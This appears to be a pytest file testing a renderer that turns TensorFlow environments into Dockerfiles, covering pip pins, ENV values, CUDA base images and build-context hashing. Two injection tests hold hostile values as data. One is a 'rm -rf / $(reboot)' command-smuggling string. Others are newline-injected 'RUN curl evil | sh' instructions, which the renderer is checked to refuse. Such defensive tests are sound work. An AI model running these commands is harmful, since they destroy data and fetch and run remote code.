"""Rendering environments to Dockerfiles and build contexts (no Docker needed)."""

from __future__ import annotations

import re
import shlex
from dataclasses import replace
from pathlib import Path

import pytest

from matrix.build.dockerfile import (
    HARNESS,
    LABEL_ENV_ID,
    context_hash,
    image_tag,
    render,
    write_build_context,
)
from matrix.build.pipsettings import SETTINGS_DIR
from matrix.plan.environments import Environment

CPU = Environment(
    tf="2.21.0",
    python="3.11",
    device="cpu",
    keras="legacy",
    base_image="python:3.11-slim-bookworm",
    template="cpu.Dockerfile.j2",
    packages=("tensorflow-cpu==2.21.0", "keras==3.13.2", "tf-keras~=2.21.0", "numpy<2.3"),
    env_vars=(("TF_USE_LEGACY_KERAS", "1"),),
)
GPU = replace(
    CPU,
    tf="2.15.1",
    device="gpu",
    keras="default",
    template="gpu.Dockerfile.j2",
    packages=("tensorflow[and-cuda]==2.15.1", "keras~=2.15.0"),
    env_vars=(),
)
CUDA_IMAGE_GPU = replace(
    GPU,
    tf="2.2.3",
    python="3.8",
    base_image="tensorflow/tensorflow:2.2.2-gpu",
    packages=("tensorflow==2.2.3", "numpy<1.19", "h5py<2.11"),
    python_from_apt=True,
)


def _installed(dockerfile: str) -> list[str]:
    """The requirements `pip install` gets, as a POSIX shell splits the RUN line (`;` ends it)."""
    match = re.search(r"-m pip install \\\n(.*?)\\\n\s*rm -rf", dockerfile, re.S)
    if match is None:
        return []
    lexer = shlex.shlex(match.group(1).replace("\\\n", " "), posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    words = list(lexer)
    words = words[: words.index(";")]
    return [word for word in words if not word.startswith("--") and word != "off"]


def _env(dockerfile: str) -> dict[str, str]:
    """Every ENV assignment, values unquoted as Docker reads them."""
    pairs = [
        word.split("=", 1)
        for line in dockerfile.splitlines()
        if line.startswith("ENV ")
        for word in shlex.split(line[4:])
    ]
    return dict(pairs)


def test_cpu_installs_the_pins_in_order_into_a_venv() -> None:
    dockerfile = render(CPU)
    assert dockerfile.splitlines()[1] == "FROM python:3.11-slim-bookworm"
    # the planned Python, or no build
    assert "RUN umask 0002 && python3.11 -m venv /opt/venv" in dockerfile
    assert "/opt/venv/bin/python -m pip install" in dockerfile
    assert _installed(dockerfile) == list(CPU.packages)
    assert "apt-get" not in dockerfile and "--upgrade pip" not in dockerfile
    assert "COPY harness /opt/tf-load-matrix/harness" in dockerfile
    assert _env(dockerfile) == {
        "PYTHONPATH": "/opt/tf-load-matrix",
        "PATH": "/opt/venv/bin:$PATH",
        "TF_USE_LEGACY_KERAS": "1",
    }
    assert f"LABEL {LABEL_ENV_ID}=tf2.21-py3.11-cpu-tfkeras " in dockerfile
    assert dockerfile.rstrip().endswith('ENTRYPOINT ["python3", "-m", "harness"]')


def test_pip_settings_are_fetched_used_and_deleted_in_one_run() -> None:
    dockerfile = render(CPU)
    run = dockerfile[dockerfile.index("ARG PIP_SETTINGS_URL") :].split("\n\n")[0]
    assert run.count("\nRUN ") == 1
    assert "PIP_SETTINGS_URL:-" in run and f"export PIP_CONFIG_FILE={SETTINGS_DIR}/pip.conf" in run
    assert '"$PIP_SETTINGS_URL"' not in run  # the fetch reads it from its environment
    assert run.rstrip().endswith(f"rm -rf {SETTINGS_DIR}")
    assert "--no-cache-dir" in run


def test_gpu_with_and_cuda_installs_tensorflow_and_names_driver_capabilities() -> None:
    dockerfile = render(GPU)
    assert _installed(dockerfile) == ["tensorflow[and-cuda]==2.15.1", "keras~=2.15.0"]
    assert "'tensorflow[and-cuda]==2.15.1'" in dockerfile  # quoted: [ ] are shell globs
    assert "RUN umask 0002 && python3.11 -m venv /opt/venv" in dockerfile
    assert "apt-get" not in dockerfile
    assert _env(dockerfile)["NVIDIA_DRIVER_CAPABILITIES"] == "compute,utility"
    assert "NVIDIA" not in render(CPU)


def test_official_cuda_image_gets_python_from_apt_and_tensorflow_from_pip() -> None:
    dockerfile = render(CUDA_IMAGE_GPU)
    runs = [block for block in dockerfile.split("\n\n") if "\nRUN " in f"\n{block}"]
    apt, user, venv, pip = (run[run.index("RUN ") :] for run in runs)
    assert dockerfile.splitlines()[1] == "FROM tensorflow/tensorflow:2.2.2-gpu"
    # Ubuntu's sources only: the image's stale NVIDIA repository key fails `apt-get update`
    assert apt.count("apt-get -o Dir::Etc::SourceParts=- ") == 2
    assert "python3.8 python3.8-venv" in apt and "python3-distutils" in apt
    assert apt.rstrip().endswith("rm -rf /var/lib/apt/lists/*")
    assert "useradd --uid 10001" in user  # after apt, which needs root; before the venv
    assert venv == "RUN umask 0002 && python3.8 -m venv /opt/venv"
    # the distribution's pip 9 upgrades itself, with the host's settings, before installing
    assert pip.index("--upgrade pip;") < pip.index("--progress-bar off")
    assert _installed(dockerfile) == list(CUDA_IMAGE_GPU.packages)  # TF too: the image's is unused
    assert _env(dockerfile)["PATH"] == "/opt/venv/bin:$PATH"
    assert dockerfile.rstrip().endswith('ENTRYPOINT ["python3", "-m", "harness"]')


def test_nothing_to_install_means_no_pip_step() -> None:
    dockerfile = render(replace(CPU, packages=()))
    assert "pip" not in dockerfile.replace("pip-settings", "")
    assert "COPY harness" in dockerfile


def test_hostile_values_stay_single_shell_words() -> None:
    hostile = "2.15; rm -rf / $(reboot) `id` 'q'"
    env = replace(
        CPU,
        packages=(f"tensorflow-cpu=={hostile}",),
        env_vars=(("TRAP", f"$HOME {hostile}"),),
    )
    dockerfile = render(env)
    assert _installed(dockerfile) == [f"tensorflow-cpu=={hostile}"]
    assert _env(dockerfile)["TRAP"] == f"$HOME {hostile}"


@pytest.mark.parametrize(
    "change",
    [
        {"packages": ("tensorflow-cpu==2.21.0\nRUN curl evil | sh",)},
        {"env_vars": (("X", "1\nRUN evil"),)},
        {"env_vars": (("X=1 Y", "2"),)},
        {"base_image": "python:3.11-slim\nRUN evil"},
        {"base_image": "python:3.11-slim AS x"},
    ],
)
def test_values_that_could_start_a_new_instruction_are_refused(change: dict) -> None:
    with pytest.raises(ValueError):
        render(replace(CPU, **change))


def test_build_context_is_the_dockerfile_and_harness_sources(tmp_path: Path) -> None:
    context = write_build_context(CPU, tmp_path)
    assert context == tmp_path / CPU.id
    files = sorted(p.relative_to(context).as_posix() for p in context.rglob("*") if p.is_file())
    sources = sorted(f"harness/{p.relative_to(HARNESS).as_posix()}" for p in HARNESS.rglob("*.py"))
    assert files == ["Dockerfile", *sources]
    assert (context / "Dockerfile").read_text() == render(CPU)


def test_rewriting_a_context_drops_stale_files(tmp_path: Path) -> None:
    context = write_build_context(CPU, tmp_path)
    before = context_hash(context)
    (context / "harness" / "stale.py").write_text("x = 1\n")
    assert context_hash(write_build_context(CPU, tmp_path)) == before


def test_context_hash_is_stable_and_follows_every_file(tmp_path: Path) -> None:
    context = write_build_context(CPU, tmp_path / "a")
    digest = context_hash(context)
    assert context_hash(write_build_context(CPU, tmp_path / "b")) == digest  # root-independent
    assert re.fullmatch(r"[0-9a-f]{64}", digest)
    assert image_tag(CPU, context) == f"tf-load-matrix:{CPU.id}-{digest[:12]}"

    runner = context / "harness" / "runner.py"
    original = runner.read_bytes()
    runner.write_bytes(original + b"\n# changed\n")
    assert context_hash(context) != digest
    runner.write_bytes(original)
    assert context_hash(context) == digest

    runner.rename(context / "harness" / "renamed.py")  # same bytes, another path
    assert context_hash(context) != digest


def test_a_rebuilt_base_image_gives_another_tag(tmp_path: Path) -> None:
    """A base rebuilt under the same name must not reuse images built on the old one."""
    context = write_build_context(CPU, tmp_path)
    old, new = (image_tag(CPU, context, f"sha256:{n * 64}") for n in "ab")
    assert old != new
    assert old != image_tag(CPU, context)  # without a daemon: the context alone
    assert old == image_tag(CPU, write_build_context(CPU, tmp_path / "again"), f"sha256:{'a' * 64}")


def test_another_pin_is_another_tag(tmp_path: Path) -> None:
    other = replace(CPU, packages=("tensorflow-cpu==2.20.0", *CPU.packages[1:]))
    assert context_hash(write_build_context(CPU, tmp_path / "a")) != context_hash(
        write_build_context(other, tmp_path / "b")
    )
